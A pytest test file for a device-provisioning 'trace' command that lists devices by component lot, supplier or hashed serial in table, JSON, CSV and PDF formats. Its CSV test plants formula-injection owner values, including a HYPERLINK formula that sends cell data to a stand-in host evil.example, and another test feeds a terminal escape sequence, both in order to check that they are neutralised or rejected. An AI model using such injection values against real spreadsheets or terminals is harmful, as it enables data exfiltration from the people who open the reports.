"""`provision trace`: devices by their components, counted exactly, in four formats."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pypdfium2 as pdfium
import pytest
from click.testing import Result
from sqlalchemy import text

from provision.activation import activate
from provision.audit import log_action, revoke
from provision.errors import ProvisionError
from provision.keys import Keyring, load_keyring
from provision.payload import payload_url
from provision.registry import Registry, TraceRow
from provision.serials import component_serial_hash
from provision.states import DeviceStatus
from provision.trace import TraceQuery, TraceResult, trace_components, write_csv
from tests.helpers import register_with_components

BASE_URL = "http://localhost:5001"


def ok(result: Result) -> Result:
    assert result.exit_code == 0, result.output
    return result


def ok_json(result: Result) -> Any:
    return json.loads(ok(result).stdout)


class Plant:
    """Two batches whose devices carry components of a few lots."""

    def __init__(self, registry: Registry, keyring_path: Path, tmp_path: Path) -> None:
        self.registry = registry
        self.keyring: Keyring = load_keyring(keyring_path)
        self.b1 = register_with_components(
            registry,
            self.keyring,
            tmp_path,
            "b1",
            [
                ["A1", "battery", "CR2032", "BAT-0001", "ACME", "L1"],
                ["A1", "mcu", "STM32L4", "", "ST", "M7"],
                ["A2", "battery", "CR2032", "BAT-0002", "ACME", "L1"],
                ["A3", "battery", "CR2032", "BAT-0003", "ACME", "L1"],
                ["A4", "battery", "CR2032", "BAT-0004", "ACME", "L2"],
                # lot L1 and supplier ACME, but not on the same component
                ["A5", "battery", "CR2032", "", "OTHER", "L1"],
                ["A5", "mcu", "STM32L4", "", "ACME", "M7"],
            ],
            line="line-1",
            model="TH-100",
        )
        self.b2 = register_with_components(
            registry,
            self.keyring,
            tmp_path,
            "b2",
            [
                # two matching components on one device: the device is listed once
                ["B1", "battery", "CR2032", "", "ACME", "L1"],
                ["B1", "battery", "CR2450", "", "ACME", "L1"],
                ["B2", "battery", "CR2032", "", "ACME", "L1"],
            ],
            line="line-2",
            model="TH-200",
        )
        self.all = self.b1 | self.b2

    def activate(self, serial: str, user: str) -> None:
        url = payload_url(BASE_URL, self.all[serial].payload)
        activate(self.registry, self.keyring, url, user)

    def device(self, serial: str) -> Any:
        return self.registry.devices.get(self.all[serial].device_id)

    def trace(self, **query: str) -> TraceResult:
        return trace_components(self.registry, self.keyring, TraceQuery(**query))


@pytest.fixture
def plant(registry: Registry, keyring_path: Path, tmp_path: Path) -> Plant:
    return Plant(registry, keyring_path, tmp_path)


def newest_action_at(registry: Registry, device: Any) -> datetime:
    return registry.events.actions_of(device.id)[-1].occurred_at


# -- what a trace finds --------------------------------------------------------------------------


def test_trace_lists_each_device_of_the_lot_once_with_its_facts_and_exact_counts(
    plant: Plant, run_cli: Any
) -> None:
    plant.activate("A1", "alice@example.com")
    log_action(plant.registry, plant.keyring, plant.device("A1"), "firmware_update")
    revoke(plant.registry, plant.keyring, plant.device("B2"), "stolen", "support")

    data = ok_json(run_cli("trace", "--lot", "L1", "--format", "json"))
    assert data["query"] == {"lot": "L1"}
    by_id = {d["device_id"]: d for d in data["devices"]}
    assert len(data["devices"]) == len(by_id)  # B1's two L1 batteries: listed once
    assert set(by_id) == {plant.all[s].device_id for s in ("A1", "A2", "A3", "A5", "B1", "B2")}
    a1 = plant.device("A1")
    assert by_id[a1.device_id] == {
        "device_id": a1.device_id,
        "batch": "b1",
        "line": "line-1",
        "model": "TH-100",
        "status": "activated",
        "activated_at": a1.activated_at.isoformat(),
        "owner": "alice@example.com",
        # the newest of its actions (activated, then firmware_update)
        "last_action_at": newest_action_at(plant.registry, a1).isoformat(),
    }
    b1 = by_id[plant.all["B1"].device_id]
    assert (b1["batch"], b1["line"], b1["model"], b1["status"]) == (
        "b2",
        "line-2",
        "TH-200",
        "pending",
    )
    assert (b1["activated_at"], b1["owner"], b1["last_action_at"]) == (None, None, None)
    b2 = by_id[plant.all["B2"].device_id]
    assert b2["last_action_at"] == newest_action_at(plant.registry, plant.device("B2")).isoformat()
    expected = {
        "by_status": {"activated": 1, "pending": 4, "revoked": 1},
        "by_batch": {"b1": 4, "b2": 2},
        "devices": 6,
    }
    assert data["summary"] == expected
    # The library's own counts (aggregate queries) agree with the streamed rows' counts.
    assert plant.trace(lot="L1").summary().to_json() == expected


def test_every_filter_must_match_the_same_component(plant: Plant, run_cli: Any) -> None:
    data = ok_json(run_cli("trace", "--lot", "L1", "--supplier", "ACME", "--json"))
    found = {d["device_id"] for d in data["devices"]}
    # A5 has lot L1 (from OTHER) and a part from ACME (lot M7): not one ACME part of lot L1.
    assert found == {plant.all[s].device_id for s in ("A1", "A2", "A3", "B1", "B2")}
    assert data["query"] == {"lot": "L1", "supplier": "ACME"}
    mcu = ok_json(run_cli("trace", "--component-type", "mcu", "--supplier", "ST", "--json"))
    assert [d["device_id"] for d in mcu["devices"]] == [plant.all["A1"].device_id]
    none = ok_json(run_cli("trace", "--lot", "NO-SUCH-LOT", "--json"))
    assert none["devices"] == []
    assert none["summary"] == {"by_status": {}, "by_batch": {}, "devices": 0}


def test_trace_by_component_serial_goes_through_the_keyed_hash(plant: Plant, run_cli: Any) -> None:
    result = run_cli("trace", "--component-serial", "BAT-0004", "--json")
    data = ok_json(result)
    assert [d["device_id"] for d in data["devices"]] == [plant.all["A4"].device_id]
    wanted = component_serial_hash(plant.keyring.pepper, "BAT-0004")
    # The query names the hash, never the serial, in the report and on the screen.
    assert data["query"] == {"component_serial_hash": wanted}
    assert "BAT-0004" not in result.stdout
    # At rest the serial is a keyed hash and a ciphertext; no column holds its plaintext.
    with plant.registry.engine.connect() as conn:
        rows = conn.execute(
            text(
                "SELECT component_serial_hash, component_serial_ct FROM device_components "
                "WHERE component_serial_hash = :h"
            ),
            {"h": wanted},
        ).all()
    assert len(rows) == 1 and b"BAT-0004" not in bytes(rows[0][1])
    # Serials are compared exactly: another case is another serial.
    assert ok_json(run_cli("trace", "--component-serial", "bat-0004", "--json"))["devices"] == []


def test_a_trace_by_serial_needs_the_keyring(plant: Plant) -> None:
    with pytest.raises(ProvisionError, match="needs the keyring"):
        trace_components(plant.registry, None, TraceQuery(component_serial="BAT-0004"))


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ((), "give at least one of --lot, --supplier, --component-type, --component-serial"),
        (("--lot", "  "), "--lot is empty"),
        (("--supplier", "x" * 129), "--supplier is longer than 128 characters"),
        (("--lot", "L1\x1b[2J"), "--lot contains a control character (U+001B)"),
    ],
)
def test_a_trace_without_a_usable_filter_is_a_usage_error(
    plant: Plant, run_cli: Any, args: tuple[str, ...], message: str
) -> None:
    result = run_cli("trace", *args)
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr == f"Error: {message}\n"


# -- formats -------------------------------------------------------------------------------------


def test_the_table_lists_the_devices_then_the_counts(plant: Plant, run_cli: Any) -> None:
    plant.activate("A2", "bob")
    out = ok(run_cli("trace", "--lot", "L1", "--supplier", "ACME")).stdout.splitlines()
    assert out[0] == "Trace: lot L1, supplier ACME"
    assert out[1].split()[:3] == ["DEVICE", "STATUS", "BATCH"]
    rows = out[2:7]
    assert [r.split()[0] for r in rows] == [
        plant.all[s].device_id for s in ("A1", "A2", "A3", "B1", "B2")
    ]
    assert rows[1].split()[1:5] == ["activated", "b1", "line-1", "TH-100"]
    assert "bob" in rows[1].split()
    assert out[7:] == ["", "5 devices", "By status: activated 1, pending 4", "By batch: b1 3, b2 2"]


def test_the_csv_is_formula_safe(plant: Plant, run_cli: Any, tmp_path: Path) -> None:
    plant.activate("A1", '=HYPERLINK("http://evil.example/?"&A1,"Click")')
    plant.activate("A2", "+1-555-0100")
    plant.activate("A3", "@SUM(1)")
    target = tmp_path / "reports" / "lot-L1.csv"
    result = ok(run_cli("trace", "--lot", "L1", "--format", "csv", "--output", str(target)))
    assert result.stdout == ""
    assert result.stderr == f"Trace: 6 devices -> {target}\n"
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert list(rows[0]) == [
        "device_id",
        "batch",
        "line",
        "model",
        "status",
        "activated_at",
        "owner",
        "last_action_at",
    ]
    owners = {r["device_id"]: r["owner"] for r in rows}
    assert owners[plant.all["A1"].device_id] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert owners[plant.all["A2"].device_id] == "'+1-555-0100"
    assert owners[plant.all["A3"].device_id] == "'@SUM(1)"
    assert owners[plant.all["B1"].device_id] == ""
    a1 = plant.device("A1")
    first = next(r for r in rows if r["device_id"] == a1.device_id)
    assert first["activated_at"] == a1.activated_at.isoformat()
    # To stdout the same rows, and nothing left behind in the folder but the report.
    assert ok(run_cli("trace", "--lot", "L1", "--format", "csv")).stdout == target.read_text()
    assert [p.name for p in target.parent.iterdir()] == ["lot-L1.csv"]
    assert target.stat().st_mode & 0o777 == 0o600  # it names the owners


def test_the_csv_streams_row_by_row(plant: Plant) -> None:
    """Each row is written before the next is read: a trace's size never sits in memory."""
    out = io.StringIO()
    seen: list[int] = []

    def rows() -> Iterator[TraceRow]:
        for i in range(5000):
            # The header and every row before this one are already written.
            seen.append(out.getvalue().count("\n"))
            yield TraceRow(f"{i:016x}", "b1", None, None, DeviceStatus.PENDING, None, None, None)

    class Fake(TraceResult):
        def devices(self) -> Iterator[TraceRow]:
            return rows()

    summary = write_csv(Fake(plant.registry, plant.trace(lot="L1").filter), out)
    assert seen == list(range(1, 5001))
    assert summary.devices == 5000 and dict(summary.by_batch) == {"b1": 5000}


def test_the_pdf_opens_and_charts_the_counts(plant: Plant, run_cli: Any, tmp_path: Path) -> None:
    plant.activate("A1", "alice")
    target = tmp_path / "lot-L1.pdf"
    ok(run_cli("trace", "--lot", "L1", "--format", "pdf", "--output", str(target)))
    pdf = pdfium.PdfDocument(str(target))
    try:
        assert len(pdf) >= 2
        first = pdf[0]
        words = first.get_textpage().get_text_range()
        assert "Trace: lot L1" in words
        assert "Devices by status" in words and "Devices by batch" in words
        assert "6 devices carry matching components" in words
        # The charts are drawings: bars, axes and ticks are path objects on the first page.
        paths = [o for o in first.get_objects() if o.type == pdfium.raw.FPDF_PAGEOBJ_PATH]
        assert len(paths) >= 10
        listing = pdf[1].get_textpage().get_text_range()
        for serial in ("A1", "A2", "A3", "A5", "B1", "B2"):
            assert plant.all[serial].device_id in listing
    finally:
        pdf.close()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temp left


def test_a_pdf_needs_an_output_file(plant: Plant, run_cli: Any) -> None:
    result = run_cli("trace", "--lot", "L1", "--format", "pdf")
    assert result.exit_code == 2
    assert result.stderr == "Error: --format pdf needs --output PATH\n"
